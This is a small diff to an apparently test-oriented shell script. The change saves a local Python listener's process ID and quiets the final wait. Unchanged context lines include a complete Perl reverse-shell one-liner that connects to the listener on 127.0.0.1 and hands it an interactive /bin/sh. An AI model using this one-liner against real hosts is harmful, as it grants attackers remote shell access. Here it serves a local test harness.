@@ -20,6 +20,7 @@ while chunk := conn.recv(4096):
 sys.stderr.write(out.decode(errors="replace"))
 PY
 coproc LISTENER { /usr/bin/python3 "$TPY_WORK/listener.py"; }
+listener=$LISTENER_PID
 read -r port <&"${LISTENER[0]}"
 timeout 30 perl -e 'use Socket;$i="127.0.0.1";$p='"$port"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
-wait "$LISTENER_PID" || true
+wait "$listener" 2>/dev/null || true
